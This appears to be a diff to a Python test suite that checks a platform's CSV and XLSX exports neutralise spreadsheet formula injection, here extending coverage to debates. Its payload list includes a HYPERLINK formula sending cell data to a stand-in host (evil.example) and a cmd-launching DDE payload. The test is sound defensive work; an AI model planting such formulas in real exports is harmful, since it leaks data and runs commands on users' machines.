@@ -22,7 +22,8 @@ PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'
             "@SUM(1+1)", "\t=1+1", "\r=1+1", " =1+1", "＝1+1"]
 SPREADSHEET_FORMATS = {"csv", "xlsx"}
 # (manifest, format) of every component export in a spreadsheet format, and the back-office's own.
-MANIFEST_EXPORTS = {("proposals", "csv"), ("proposals", "xlsx"), ("budgets", "csv"), ("accountability", "csv")}
+MANIFEST_EXPORTS = {("proposals", "csv"), ("proposals", "xlsx"), ("budgets", "csv"), ("accountability", "csv"),
+                    ("debates", "csv")}
 BACKOFFICE_EXPORTS = {"evaluation_csv", "evaluation_xlsx", "accountability_csv", "budget_ballots_csv",
                       "letters_csv"}
 
@@ -86,6 +87,14 @@ def _results(process, payload):
     return component
 
 
+def _debates(process, payload):
+    from agora.components.debates.services import insert_debate
+
+    component = factories.ComponentFactory(space=process, manifest_name="debates")
+    insert_debate(component=component, title=tr(payload), description=tr(payload))
+    return component
+
+
 def _component_export(client, component, export_format):
     return client.get(reverse("backoffice:component_export", kwargs={
         "space_id": component.space_id, "component_id": component.pk, "export_format": export_format}))
@@ -97,7 +106,9 @@ def test_manifest_exports_neutralise_formulas(client, admin, process, payload):
     ideas = _ideas(process, payload)
     budgets, _budget = _budgets(process, payload, admin)
     results = _results(process, payload)
-    for component, export_format in [(ideas, "csv"), (ideas, "xlsx"), (budgets, "csv"), (results, "csv")]:
+    debates = _debates(process, payload)
+    for component, export_format in [(ideas, "csv"), (ideas, "xlsx"), (budgets, "csv"), (results, "csv"),
+                                     (debates, "csv")]:
         response = _component_export(client, component, export_format)
         assert response.status_code == 200, (component.manifest_name, export_format)
         assert_guarded(cells(response), payload)
